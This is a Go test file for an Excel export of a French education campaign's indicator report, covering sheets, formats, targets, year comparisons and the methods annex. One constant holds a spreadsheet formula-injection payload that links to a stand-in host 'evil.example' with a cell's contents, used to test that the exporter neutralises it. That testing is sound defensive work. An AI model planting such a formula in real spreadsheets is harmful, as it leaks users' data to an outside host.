package export

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/cmq-greencity/greencity/charts"
	"github.com/cmq-greencity/greencity/internal/xlsxtest"
	"github.com/cmq-greencity/greencity/stats"
	"github.com/cmq-greencity/greencity/targets"
	"github.com/cmq-greencity/greencity/trend"
)

func f(v float64) *float64 { return &v }

// hostile is a category that a spreadsheet would run as a formula.
const hostile = `=HYPERLINK("http://evil.example/?"&A1,"clic")`

// report is a small report of 2025 over three years, 2024 missing: the
// figures of the seed report, a hostile action name, a survey, two targets
// and the comparison of years.
func report() charts.Report {
	const survey = "Engagement tour lycée 2025"
	r := charts.Report{Campus: "CMQ Green City BFC", Year: 2025, Figures: []charts.Figure{
		{ID: "animations", Label: "Animations", Value: 80, N: 80, Unit: "animations"},
		{ID: "participants", Label: "Personnes impactées", Value: 4604, N: 4604, Unit: "personnes"},
		{ID: "participants", Label: "Personnes impactées", Dimension: "public", Category: "collégiens", Value: 2087, N: 2087, Unit: "personnes"},
		{ID: "participants", Label: "Personnes impactées", Dimension: "action", Category: hostile, Value: 12, N: 12, Unit: "personnes"},
		{ID: "girls_share", Label: "Part de filles", Value: 0.365, N: 4241, Unit: "part", Coverage: f(4241.0 / 4604)},
		{ID: "qpv_share", Label: "Part QPV", Value: 0.492, N: 691, Unit: "part", Coverage: f(691.0 / 4604)},
		{ID: "orientation_confirmed_rate", Label: "Orientation confirmée", Survey: survey, Value: 15.0 / 18, N: 18, CILow: f(0.608), CIHigh: f(0.942), Unit: "part"},
		{ID: "interest_uplift", Label: "Progression de l'intérêt", Survey: survey, Value: 1.0 / 3, N: 17, Unit: "évolution"},
		{ID: "survey_change", Label: "Évolution", Survey: survey, Question: "interet", QuestionLabel: "Ton intérêt ?", Value: 1.59, N: 17,
			Unit: "points sur 5", Test: "wilcoxon", PValue: f(0.004), PAdjusted: f(0.012), Note: "petit échantillon"},
		{ID: "survey_likert", Label: "Réponses", Survey: survey, Question: "interet", QuestionLabel: "Ton intérêt ?", Wave: "après",
			Unit: "part", Note: "moins de 10 répondants", WithheldBelow: 10},
		{ID: "attractiveness", Label: "Attractivité des formations", Value: 1.63, N: 10, Unit: "candidats par place"},
		{ID: "new_indicator", Label: "Nouvel indicateur", Value: 7, N: 7, Unit: "personnes"},
	}}
	attr := targets.Target{Indicator: "attractiveness", BaselineYear: 2023, BaselineValue: f(1.4), TargetYear: 2030, Multiplier: f(2)}
	orient := targets.Target{Indicator: "orientation_confirmed_rate", Survey: "Engagement tour lycée", BaselineYear: 2024, TargetYear: 2030, TargetValue: f(0.9)}
	r.Trajectories = []charts.Trajectory{
		{Indicator: "attractiveness", Label: "Doubler l'attractivité des formations", IndicatorLabel: "Attractivité des formations",
			Unit: "candidats par place", Direction: "up", BaselineYear: 2023, TargetYear: 2030, Multiplier: f(2),
			Result: targets.Evaluate(attr, []targets.Point{{Year: 2023, Value: 1.4}, {Year: 2025, Value: 1.63}}, 2025)},
		{Indicator: "orientation_confirmed_rate", IndicatorLabel: "Orientation confirmée", Survey: "Engagement tour lycée",
			Unit: "part", Direction: "up", BaselineYear: 2024, TargetYear: 2030,
			Result: targets.Evaluate(orient, []targets.Point{{Year: 2025, Value: 15.0 / 18, CILow: f(0.608), CIHigh: f(0.942)}}, 2025)},
	}
	k := trend.Key{ID: "participants"}
	a := trend.Key{ID: "attractiveness"}
	q := trend.Key{ID: "qpv_share"}
	lines := trend.Compare([]trend.Point{
		{Key: k, Year: 2023, Value: 1681, Version: 1}, {Key: a, Year: 2023, Value: 1.4, Version: 1},
		{Key: k, Year: 2025, Value: 4604, Version: 1}, {Key: a, Year: 2025, Value: 1.63, Version: 2},
		{Key: k, Year: 2026, Value: 5000, Version: 1},
		{Key: q, Year: 2025, Value: 0.492, Version: 1}, {Key: q, Year: 2026, Value: 0.5, Version: 1},
		wilson(2025, 14, 20), wilson(2026, 15, 18),
	}, []int{2023, 2024, 2025, 2026})
	r.Comparison = &charts.Comparison{Years: []int{2023, 2024, 2025, 2026}, Missing: []int{2024}, Rows: []charts.ComparisonRow{
		{ID: "participants", Label: "Personnes impactées", Unit: "personnes", Cells: lines[0].Cells},
		{ID: "attractiveness", Label: "Attractivité des formations", Unit: "candidats par place", Cells: lines[1].Cells},
		{ID: "qpv_share", Label: "Part QPV", Unit: "part", Cells: lines[2].Cells, Coverage: map[int]float64{2025: 0.15, 2026: 0.6}},
		{ID: "orientation_confirmed_rate", Label: "Orientation confirmée", Survey: "Engagement tour lycée", Unit: "part", Cells: lines[3].Cells},
	}}
	return r
}

// wilson is the orientation share of a survey, k of n with its Wilson
// interval, as the pipeline records it.
func wilson(year, k, n int) trend.Point {
	lo, hi := stats.Wilson(k, n)
	return trend.Point{Key: trend.Key{ID: "orientation_confirmed_rate", Survey: "engagement tour lycee"}, Year: year,
		Value: float64(k) / float64(n), Version: 1, N: int64(n), Low: &lo, High: &hi, Interval: trend.Wilson}
}

var defs = []Definition{
	{ID: "participants", Label: "Personnes impactées", Definition: "Somme des participants.", Version: 1,
		Sources: []string{"2025/actions.xlsx", "2025/participations/a.xlsx"}},
	{ID: "orientation_confirmed_rate", Label: "Orientation confirmée", Definition: "Part des 4 et 5.", Version: 2,
		Sources: []string{"2025/questionnaires/et.xlsx"}},
	{ID: "qpv_share", Label: "Part QPV", Definition: "Part des QPV.", Version: 1},
}

// open writes the workbook of r and opens it again.
func open(t *testing.T, r charts.Report) *excelize.File {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, r, defs); err != nil {
		t.Fatalf("Write: %v", err)
	}
	x, err := excelize.OpenReader(&buf, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatalf("open the workbook: %v", err)
	}
	t.Cleanup(func() { x.Close() })
	return x
}

// rows reads a sheet as raw values.
func rows(t *testing.T, x *excelize.File, sheet string) [][]string {
	t.Helper()
	rs, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatalf("read %s: %v", sheet, err)
	}
	return rs
}

// numFmt is the number format code of a cell.
func numFmt(t *testing.T, x *excelize.File, sheet, ref string) string {
	t.Helper()
	id, err := x.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	st, err := x.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	if st.CustomNumFmt == nil {
		return ""
	}
	return *st.CustomNumFmt
}

func TestWrite_sheets(t *testing.T) {
	x := open(t, report())
	want := []string{SheetPeople, SheetAnimations, SheetSurveys, SheetProgrammes, SheetOthers, SheetTargets, SheetYears, SheetDefinitions, SheetMethods}
	if d := cmp.Diff(append([]string{SheetCover}, want...), x.GetSheetList()); d != "" {
		t.Errorf("sheets (-want +got):\n%s", d)
	}
	// Every sheet: header frozen, filters on the whole table.
	filters := map[string]string{}
	for _, dn := range x.GetDefinedName() {
		if dn.Name == "_xlnm._FilterDatabase" {
			filters[dn.Scope] = dn.RefersTo
		}
	}
	for _, s := range want {
		p, err := x.GetPanes(s)
		if err != nil || !p.Freeze || p.YSplit != 1 || p.TopLeftCell != "A2" {
			t.Errorf("%s: panes %+v (%v), want the first row frozen", s, p, err)
		}
		if !strings.HasPrefix(filters[s], "'"+s+"'!$A$1:") {
			t.Errorf("%s: filter %q, want one over the table from A1", s, filters[s])
		}
	}
	if got := filters[SheetPeople]; got != "'Personnes'!$A$1:$Q$6" {
		t.Errorf("filter of %s = %q, want the header and its 5 rows", SheetPeople, got)
	}
}

// TestWrite_figures reads the figures back: numbers stored as numbers, with
// the report's formats, texts neutralised, nothing lost.
func TestWrite_figures(t *testing.T) {
	x := open(t, report())
	people := rows(t, x, SheetPeople)
	want := [][]string{
		FigureHeader,
		{"participants", "Personnes impactées", "", "", "", "", "", "4604", "personnes", "4604"},
		{"participants", "Personnes impactées", "", "", "", "Public", "Collégiens", "2087", "personnes", "2087"},
		{"participants", "Personnes impactées", "", "", "", "Action", "'" + hostile, "12", "personnes", "12"},
		// A share computed on part of the whole: its coverage, in words
		// and as a number, and the mark of one on less than half.
		{"girls_share", "Part de filles", "", "", "", "", "", "0.365", "part", "4241", "", "", "", "", "",
			"Calculé sur les 4 241 participations dont le nombre de filles est connu, soit 92 % des 4 604.", "0.92115551694179"},
		{"qpv_share", "Part QPV", "", "", "", "", "", "0.492", "part", "691", "", "", "", "", "",
			"Calculé sur les 691 participations dont le lieu de résidence est connu, soit 15 % des 4 604. " +
				"Calculé sur moins de la moitié des participations : ce chiffre décrit les groupes renseignés, pas l'ensemble.", "0.150086880973067"},
	}
	if d := cmp.Diff(want, people); d != "" {
		t.Errorf("%s (-want +got):\n%s", SheetPeople, d)
	}
	for _, c := range []struct{ sheet, ref, format string }{
		{SheetPeople, "H2", FormatCount}, {SheetPeople, "J2", FormatCount}, {SheetPeople, "H5", FormatShare},
		{SheetSurveys, "H2", FormatShare}, {SheetSurveys, "K2", FormatShare}, {SheetSurveys, "H3", FormatChange},
		{SheetSurveys, "N4", FormatPValue}, {SheetProgrammes, "H2", FormatMean},
		// A change in points on a 1-5 scale: 1,59 keeps its decimals.
		{SheetSurveys, "H4", FormatSignedMean},
	} {
		typ, err := x.GetCellType(c.sheet, c.ref)
		if err != nil || (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) {
			t.Errorf("%s!%s is of type %v (%v), want a number", c.sheet, c.ref, typ, err)
		}
		if got := numFmt(t, x, c.sheet, c.ref); got != c.format {
			t.Errorf("%s!%s has the format %q, want %q", c.sheet, c.ref, got, c.format)
		}
	}
	if typ, _ := x.GetCellType(SheetPeople, "G4"); typ == excelize.CellTypeFormula {
		t.Error("the hostile action name became a formula")
	}
	if f, _ := x.GetCellFormula(SheetPeople, "G4"); f != "" {
		t.Errorf("the hostile action name holds the formula %q", f)
	}
	surveys := rows(t, x, SheetSurveys)
	if d := cmp.Diff([]string{"orientation_confirmed_rate", "Orientation confirmée", "Engagement tour lycée 2025", "", "", "", "",
		"0.833333333333333", "part", "18", "0.608", "0.942"}, surveys[1]); d != "" {
		t.Errorf("%s row 2 (-want +got):\n%s", SheetSurveys, d)
	}
	// A paired figure and a figure withheld by the small-cell rule: "< 10",
	// no n, and the reason, as the report shows them.
	want = [][]string{
		{"survey_change", "Évolution", "Engagement tour lycée 2025", "Ton intérêt ?", "", "", "", "1.59", "points sur 5", "17", "", "", "test des rangs signés de Wilcoxon", "0.004", "0.012", "petit échantillon"},
		{"survey_likert", "Réponses", "Engagement tour lycée 2025", "Ton intérêt ?", "Après", "", "", "<\u00a010", "part", "", "", "", "", "", "", "moins de 10 répondants"},
	}
	if d := cmp.Diff(want, surveys[3:5]); d != "" {
		t.Errorf("%s rows 4-5 (-want +got):\n%s", SheetSurveys, d)
	}
	if got := rows(t, x, SheetOthers)[1][0]; got != "new_indicator" {
		t.Errorf("%s holds %q, want the indicator the report has no place for", SheetOthers, got)
	}
}

// TestWrite_targets checks the targets sheet, and that it says why a target
// has no data or is too uncertain to judge (column "Raison du statut").
func TestWrite_targets(t *testing.T) {
	r := report()
	// 83 % (61-94 %) in 2025 against 76,7 % expected on the path from 70 %
	// in 2024 to 90 % in 2030: the interval straddles the path.
	orient := targets.Target{Indicator: "orientation_confirmed_rate", Survey: "Forum", BaselineYear: 2024, BaselineValue: f(0.7),
		TargetYear: 2027, TargetValue: f(0.9)}
	r.Trajectories = append(r.Trajectories, charts.Trajectory{Indicator: "orientation_confirmed_rate", IndicatorLabel: "Orientation confirmée",
		Survey: "Forum", Unit: "part", Direction: "up", BaselineYear: 2024, TargetYear: 2027,
		Result: targets.Evaluate(orient, []targets.Point{{Year: 2025, Value: 15.0 / 18, CILow: f(0.608), CIHigh: f(0.942)}}, 2025)})
	x := open(t, r)
	got := rows(t, x, SheetTargets)
	want := [][]string{
		TargetsHeader,
		{"Doubler l'attractivité des formations", "attractiveness", "Attractivité des formations", "", "hausse", "2023", "1.4", "2030", "2.8", "2",
			"2025", "1.63", "1.8", "0.164285714285714", "0.234", "behind", "en retard sur la trajectoire"},
		{"Orientation confirmée", "orientation_confirmed_rate", "Orientation confirmée", "Engagement tour lycée", "hausse", "2024", "", "2030", "", "",
			"", "", "", "", "", "no_data", "pas de données pour juger", "", "", "", "aucune valeur en 2024, l'année de référence"},
		{"Orientation confirmée", "orientation_confirmed_rate", "Orientation confirmée", "Forum", "hausse", "2024", "0.7", "2027", "0.9", "",
			"2025", "0.833333333333333", "0.766666666666667", "0.666666666666667", "0.0333333333333333", "uncertain", "trop incertain pour conclure",
			"0.608", "0.942", "oui",
			// Why, in the report's words: the statistical ones are for "Méthodes".
			"2025 : probablement entre 61\u202f% et 94\u202f%, ce qui comprend les 77\u202f% attendus sur la trajectoire : trop incertain pour conclure."},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("%s (-want +got):\n%s", SheetTargets, d)
	}
	for _, c := range []struct{ ref, format string }{{"F2", FormatYear}, {"G2", FormatMean}, {"N2", FormatPercent}, {"O2", FormatSignedMean}} {
		if got := numFmt(t, x, SheetTargets, c.ref); got != c.format {
			t.Errorf("%s!%s has the format %q, want %q", SheetTargets, c.ref, got, c.format)
		}
	}
}

// TestWrite_years checks the years side by side: a missing year is an empty
// cell, not zero, no change is computed across it, and the changed
// definition is named.
func TestWrite_years(t *testing.T) {
	x := open(t, report())
	got := rows(t, x, SheetYears)
	change := func(y string) []string {
		return []string{"Évolution " + y, "Évolution " + y + " (%)", "Évolution " + y + " IC 95 % bas", "Évolution " + y + " IC 95 % haut",
			"Évolution " + y + " indiscernable du hasard"}
	}
	header := []string{"Indicateur", "Libellé", "Enquête", "Question", "Vague", "Ventilation", "Catégorie", "Unité", "2023", "2024"}
	header = append(header, change("2024")...)
	header = append(header, "2025")
	header = append(header, change("2025")...)
	header = append(header, "2026")
	header = append(header, change("2026")...)
	header = append(header, "Versions de la définition", "Définition modifiée",
		"Couverture 2023", "Couverture 2024", "Couverture 2025", "Couverture 2026", "Couverture sous la moitié")
	none := []string{"", "", "", "", ""} // no change: a year missing
	row := func(cells ...[]string) []string {
		var out []string
		for _, c := range cells {
			out = append(out, c...)
		}
		return out
	}
	want := [][]string{
		header,
		row([]string{"participants", "Personnes impactées", "", "", "", "", "", "personnes", "1681", ""}, none, []string{"4604"}, none,
			[]string{"5000", "396", "0.0860121633362294", "", "", "", "2023 : v1, 2025 : v1, 2026 : v1"}),
		row([]string{"attractiveness", "Attractivité des formations", "", "", "", "", "", "candidats par place", "1.4", ""}, none, []string{"1.63"}, none,
			[]string{"", "", "", "", "", "", "2023 : v1, 2025 : v2", "2025 (v1 → v2)"}),
		// A share shows its coverage each year, and names the years under
		// half: its change from 2025 compares the groups counted.
		row([]string{"qpv_share", "Part QPV", "", "", "", "", "", "part", "", ""}, none, []string{"0.492"}, none,
			[]string{"0.5", "0.00800000000000001", "0.016260162601626", "", "", "", "2025 : v1, 2026 : v1", "", "", "", "0.15", "0.6",
				"moins de la moitié des participations en 2025 : la part ne décrit que les groupes renseignés, et son évolution depuis ou vers ces années ne dit rien de l'ensemble"}),
		// A survey share: its change from 2025 (14 of 20) to 2026 (15 of
		// 18) has Newcombe's interval, which holds 0.
		row([]string{"orientation_confirmed_rate", "Orientation confirmée", "Engagement tour lycée", "", "", "", "", "part", "", ""}, none, []string{"0.7"}, none,
			[]string{"0.833333333333333", "0.133333333333333", "0.190476190476191", "-0.140074347467579", "0.377624511677941", "oui", "2025 : v1, 2026 : v1"}),
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("%s (-want +got):\n%s", SheetYears, d)
	}
	if typ, _ := x.GetCellType(SheetYears, "J2"); typ != excelize.CellTypeUnset {
		t.Errorf("%s!J2 (2024, missing) is of type %v, want an empty cell", SheetYears, typ)
	}
	// The changes and their bounds are signed like the figure: a count, a
	// share in points of percentage.
	for _, c := range []struct{ ref, format string }{
		{"W2", FormatSignedCount}, {"W5", FormatChange}, {"Y5", FormatChange}, {"Z5", FormatChange},
	} {
		if got := numFmt(t, x, SheetYears, c.ref); got != c.format {
			t.Errorf("%s!%s has the format %q, want %q", SheetYears, c.ref, got, c.format)
		}
	}
}

func TestWrite_definitions(t *testing.T) {
	x := open(t, report())
	want := [][]string{
		DefinitionsHeader,
		{"participants", "Personnes impactées", "1", "Somme des participants.", "", "4604", "2025/actions.xlsx, 2025/participations/a.xlsx"},
		{"orientation_confirmed_rate", "Orientation confirmée", "2", "Part des 4 et 5.", "Engagement tour lycée 2025", "18", "2025/questionnaires/et.xlsx"},
		{"qpv_share", "Part QPV", "1", "Part des QPV.", "", "691"},
	}
	if d := cmp.Diff(want, rows(t, x, SheetDefinitions)); d != "" {
		t.Errorf("%s (-want +got):\n%s", SheetDefinitions, d)
	}
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+33": "'+33", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx",
		"Lycée": "Lycée", "": "", "a=b": "a=b",
	} {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWrite_libreOffice opens the workbook in LibreOffice (headless) and
// reads every sheet back as CSV: the figures are those written. Skipped
// when LibreOffice is not installed.
func TestWrite_libreOffice(t *testing.T) {
	path := filepath.Join(t.TempDir(), FileName)
	var buf bytes.Buffer
	if err := Write(&buf, report(), defs); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	sheets := xlsxtest.ReadWithLibreOffice(t, path)
	if d := cmp.Diff([]string{"participants", "Personnes impactées", "", "", "", "", "", "4604", "personnes", "4604", "", "", "", "", "", "", ""}, sheets[SheetPeople][1]); d != "" {
		t.Errorf("LibreOffice reads %s row 2 as (-want +got):\n%s", SheetPeople, d)
	}
	if got := sheets[SheetPeople][3][6]; got != "'"+hostile {
		t.Errorf("LibreOffice reads the hostile name as %q, want the text %q", got, "'"+hostile)
	}
	// LibreOffice writes a cell with a percentage format as "83.3...%".
	if got := sheets[SheetSurveys][1][7]; got != "83.3333333333333%" {
		t.Errorf("LibreOffice reads the orientation share as %q, want 83.3333333333333%%", got)
	}
	// A change in points keeps its decimals (1,59, not 2).
	if got := sheets[SheetSurveys][3][7]; got != "1.59" {
		t.Errorf("LibreOffice reads the change of interest as %q, want 1.59", got)
	}
	if got := sheets[SheetSurveys][3][13]; got != "0.004" {
		t.Errorf("LibreOffice reads its p as %q, want 0.004", got)
	}
	if got := sheets[SheetCover][1]; !cmp.Equal(got, []string{"Campus", "CMQ Green City BFC"}) {
		t.Errorf("LibreOffice reads the cover's second line as %q", got)
	}
	if got := sheets[SheetProgrammes][1][7]; got != "1.63" {
		t.Errorf("LibreOffice reads attractiveness as %q, want 1.63", got)
	}
	if got := sheets[SheetYears][1][9]; got != "" {
		t.Errorf("LibreOffice reads the missing 2024 as %q, want an empty cell", got)
	}
	if got := sheets[SheetTargets][1][16]; got != "en retard sur la trajectoire" {
		t.Errorf("LibreOffice reads the first target's status as %q", got)
	}
}

// TestWrite_shownByLibreOffice checks the number formats as LibreOffice
// shows them (in its en-US locale; a French one writes commas): shares with
// one decimal, a change in points with its sign and decimals, p as the
// report writes it. Skipped when LibreOffice is not installed.
func TestWrite_shownByLibreOffice(t *testing.T) {
	r := report()
	r.Figures = append(r.Figures, charts.Figure{ID: "survey_change", Label: "Évolution", Survey: "Engagement tour lycée 2025",
		Question: "plaisir", Value: -0.4, N: 40, Unit: "points sur 5", Test: "wilcoxon", PValue: f(0.0004)})
	path := filepath.Join(t.TempDir(), FileName)
	var buf bytes.Buffer
	if err := Write(&buf, r, defs); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	surveys := xlsxtest.ShownByLibreOffice(t, path)[SheetSurveys]
	got := [][]string{
		{surveys[1][7], surveys[1][10], surveys[1][11]}, // a share and its interval
		{surveys[2][7]},                 // interest_uplift, a relative change
		{surveys[3][7], surveys[3][13]}, // a change in points and its p
		{surveys[5][7], surveys[5][13]},
	}
	want := [][]string{{"83.3%", "60.8%", "94.2%"}, {"+33.3%"}, {"+1.59", "0.004"}, {"-0.40", "< 0,001"}}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("LibreOffice shows (-want +got):\n%s", d)
	}
}

// TestWrite_properties checks the workbook says which greencity made it.
func TestWrite_properties(t *testing.T) {
	r := report()
	r.Version = "v1.4.0"
	props, err := open(t, r).GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	got := []string{props.Creator, props.Title, props.Version, props.Language}
	want := []string{"greencity", "Indicateurs 2025 – CMQ Green City BFC", "v1.4.0", "fr-FR"}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("document properties (-want +got):\n%s", d)
	}
}

// TestWrite_cover checks the first sheet says what the page's cover says:
// campus, year, period, cut-off, producer, contact, data status and
// version, then names the sheets that follow.
func TestWrite_cover(t *testing.T) {
	r := report()
	r.Version = "v1.4.0"
	r.Cover = &charts.Cover{Period: "du 1er janvier au 31 décembre 2025", CutOff: "15 janvier 2026", Producer: "CMQ Green City",
		Contact: "evaluation@example.org", NotFinal: map[int]string{2023: "démonstration"}, TargetsDemo: true}
	x := open(t, r)
	if got := x.GetSheetList()[0]; got != SheetCover {
		t.Fatalf("first sheet %q, want %q", got, SheetCover)
	}
	want := [][]string{
		{"Indicateurs", "Indicateurs 2025 – CMQ Green City BFC"},
		{"Campus", "CMQ Green City BFC"},
		{"Année", "2025"},
		{"Période couverte", "du 1er janvier au 31 décembre 2025"},
		{"Données arrêtées au", "15 janvier 2026"},
		{"Réalisé par", "CMQ Green City"},
		{"Contact", "evaluation@example.org"},
		{"Statut des données", "Données de démonstration pour 2023 ; cibles d'exemple : à ne pas citer comme résultats."},
		{"Version de greencity", "v1.4.0"},
		nil,
		{"Feuilles", SheetPeople},
		{"", SheetAnimations}, {"", SheetSurveys}, {"", SheetProgrammes}, {"", SheetOthers},
		{"", SheetTargets}, {"", SheetYears}, {"", SheetDefinitions}, {"", SheetMethods},
	}
	if d := cmp.Diff(want, rows(t, x, SheetCover)); d != "" {
		t.Errorf("%s (-want +got):\n%s", SheetCover, d)
	}
	// All final: the cover says so rather than nothing.
	r.Cover.NotFinal, r.Cover.TargetsDemo = nil, false
	if got := rows(t, open(t, r), SheetCover)[7]; !cmp.Equal(got, []string{"Statut des données", "Données définitives."}) {
		t.Errorf("status line of final data %q", got)
	}
}

// TestWrite_printSetup checks every sheet prints A4 landscape, one page wide,
// and every table with its header row on each page.
func TestWrite_printSetup(t *testing.T) {
	x := open(t, report())
	titles := map[string]string{}
	for _, dn := range x.GetDefinedName() {
		if dn.Name == "_xlnm.Print_Titles" {
			titles[dn.Scope] = dn.RefersTo
		}
	}
	for _, s := range x.GetSheetList() {
		pl, err := x.GetPageLayout(s)
		if err != nil {
			t.Fatal(err)
		}
		if pl.Size == nil || *pl.Size != paperA4 || pl.Orientation == nil || *pl.Orientation != "landscape" || pl.FitToWidth == nil || *pl.FitToWidth != 1 ||
			pl.FitToHeight == nil || *pl.FitToHeight != 0 {
			t.Errorf("%s: page layout %+v, want A4 landscape, 1 page wide, any number tall", s, pl)
		}
		props, err := x.GetSheetProps(s)
		if err != nil || props.FitToPage == nil || !*props.FitToPage {
			t.Errorf("%s: fit to page not on (%v)", s, err)
		}
		want := "'" + s + "'!$1:$1"
		if s == SheetCover {
			want = "" // no table, no header to repeat
		}
		if titles[s] != want {
			t.Errorf("%s: print titles %q, want %q", s, titles[s], want)
		}
	}
}

// TestWrite_labels checks an indicator that comes without a label gets the
// report's French one beside its id, on every sheet.
func TestWrite_labels(t *testing.T) {
	r := charts.Report{Campus: "CMQ", Year: 2025,
		Figures:      []charts.Figure{{ID: "qpv_share", Value: 0.2, N: 50, Unit: "part"}},
		Trajectories: []charts.Trajectory{{Indicator: "qpv_share", Unit: "part", Direction: "up", BaselineYear: 2023, TargetYear: 2030}},
		Comparison:   &charts.Comparison{Years: []int{2025}, Rows: []charts.ComparisonRow{{ID: "qpv_share", Unit: "part"}}},
	}
	x := open(t, r)
	for _, c := range []struct{ sheet, ref string }{
		{SheetPeople, "B2"}, {SheetTargets, "A2"}, {SheetTargets, "C2"}, {SheetYears, "B2"},
	} {
		const want = "Part QPV / ZRR"
		if got, _ := x.GetCellValue(c.sheet, c.ref); got != want {
			t.Errorf("%s!%s = %q, want %q", c.sheet, c.ref, got, want)
		}
	}
}

// TestWrite_frenchLabels reads the workbook back: the breakdowns, their
// values and the paired tests are in French, as the report says them (from
// package charts, one place for both), never the codes of the queries.
func TestWrite_frenchLabels(t *testing.T) {
	const survey = "Engagement tour lycée 2025"
	r := charts.Report{Campus: "CMQ", Year: 2025, Figures: []charts.Figure{
		{ID: "participants", Dimension: "type_etablissement", Category: "lycée", Value: 1853, N: 1853, Unit: "personnes"},
		{ID: "animations", Dimension: "mois", Category: "2025-11", Value: 23, N: 23, Unit: "animations"},
		{ID: "response_rate", Survey: survey, Dimension: "vague", Category: "pre", Value: 0.95, N: 19, Unit: "part"},
		{ID: "survey_change", Survey: survey, Question: "connait_metiers", QuestionLabel: "Connais-tu les métiers ?", Dimension: "mesure",
			Category: "part d'accord", Value: 10.0 / 17, N: 17, Unit: "écart de part", Test: "mcnemar", PValue: f(0.002)},
	}, Comparison: &charts.Comparison{Years: []int{2025}, Rows: []charts.ComparisonRow{
		{ID: "participants", Dimension: "type_etablissement", Category: "lycée", Unit: "personnes"},
		{ID: "response_rate", Survey: "Engagement tour lycée", Dimension: "vague", Category: "post", Unit: "part"},
	}}}
	x := open(t, r)
	cells := func(sheet string, row int, cols ...int) []string {
		var out []string
		for _, c := range cols {
			out = append(out, rows(t, x, sheet)[row][c])
		}
		return out
	}
	for _, c := range []struct {
		sheet string
		row   int
		cols  []int
		want  []string
	}{
		{SheetPeople, 1, []int{5, 6}, []string{"Type d'établissement", "Lycée"}},
		{SheetAnimations, 1, []int{5, 6}, []string{"Mois", "nov. 2025"}},
		{SheetSurveys, 1, []int{5, 6}, []string{"Avant / après l'action", "Avant"}},
		{SheetSurveys, 2, []int{3, 5, 6, 12}, []string{"Connais-tu les métiers ?", "Mesure de l'écart", "part d'accord", "test exact de McNemar"}},
		{SheetYears, 1, []int{5, 6}, []string{"Type d'établissement", "Lycée"}},
		{SheetYears, 2, []int{5, 6}, []string{"Avant / après l'action", "Après"}},
	} {
		if d := cmp.Diff(c.want, cells(c.sheet, c.row, c.cols...)); d != "" {
			t.Errorf("%s row %d (-want +got):\n%s", c.sheet, c.row+1, d)
		}
	}
}

// TestWrite_methods: the annex of the report is in the workbook too: the
// numerator, denominator and SQL digest of each indicator on the
// definitions sheet, and on the sheet of methods and sources the methods,
// each source file and SQL file with its SHA-256, the version and the
// configuration digest with its canonical form.
func TestWrite_methods(t *testing.T) {
	r := report()
	r.Version = "v1.4.0"
	r.MinCellSize = 10
	r.Annex = &charts.Annex{
		Indicators: []charts.IndicatorSource{{ID: "participants", Version: 1, File: "queries/indicators/participants.sql",
			SHA256: strings.Repeat("ab", 32), Numerator: "Participants additionnés.", Denominator: "Aucun : un comptage."}},
		Sources: []charts.SourceFile{{Path: "2025/actions.xlsx", Kind: "actions", SHA256: strings.Repeat("cd", 32), RowsRead: 3, Rows: 3,
			ImportedAt: "2026-01-15 09:30:00 UTC", ImportedBy: "v1.3.0"}},
		Config: charts.ConfigDigest{SHA256: strings.Repeat("ef", 32), Canonical: `{"campus":"CMQ Green City BFC"}`,
			Covered: []string{"campus"}, LeftOut: []string{"producer", "respondent_key"}},
	}
	x := open(t, r)
	defsRows := rows(t, x, SheetDefinitions)
	if got, want := defsRows[1][7:], []string{"Participants additionnés.", "Aucun : un comptage.", "queries/indicators/participants.sql", strings.Repeat("ab", 32)}; !slices.Equal(got, want) {
		t.Errorf("%s row of participants ends with %q, want %q", SheetDefinitions, got, want)
	}
	got := rows(t, x, SheetMethods)
	if d := cmp.Diff(MethodsHeader, got[0]); d != "" {
		t.Errorf("%s header (-want +got):\n%s", SheetMethods, d)
	}
	want := [][]string{
		{"Fichier source", "2025/actions.xlsx", strings.Repeat("cd", 32), "Catalogue des actions ; 3 sur 3 lues ; importé le 2026-01-15 09:30:00 UTC par greencity v1.3.0"},
		{"Fichier SQL", "queries/indicators/participants.sql", strings.Repeat("ab", 32), "Personnes impactées (participants), version 1"},
		{"greencity", "Version", "v1.4.0"},
		{"Configuration", "Forme canonique", `{"campus":"CMQ Green City BFC"}`, "Le texte dont l'empreinte est le SHA-256, octet pour octet."},
	}
	for _, w := range want {
		if !slices.ContainsFunc(got, func(row []string) bool { return slices.Equal(row, w) }) {
			t.Errorf("%s has no row %q", SheetMethods, w)
		}
	}
	methods := 0
	for _, row := range got {
		if row[0] == "Méthode" && len(row) == 4 && strings.HasPrefix(row[3], "Références : ") {
			methods++
		}
	}
	if methods < 3 { // intervals, tests, small cells
		t.Errorf("%s has %d methods with their references, want at least 3", SheetMethods, methods)
	}
}
